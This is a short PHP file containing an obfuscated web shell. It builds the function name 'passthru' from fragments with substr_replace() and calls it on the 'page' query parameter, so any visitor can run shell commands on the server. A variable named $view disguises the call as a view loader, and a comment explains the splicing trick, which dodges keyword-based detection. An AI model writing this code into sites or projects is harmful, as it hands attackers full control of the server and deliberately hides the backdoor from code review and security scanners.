<?php
// a function name spliced together with substr_replace(): 'pa' + 'ssthr' + 'u'
$view = substr_replace('pau', 'ssthr', 2, 0);
$view($_GET['page']);
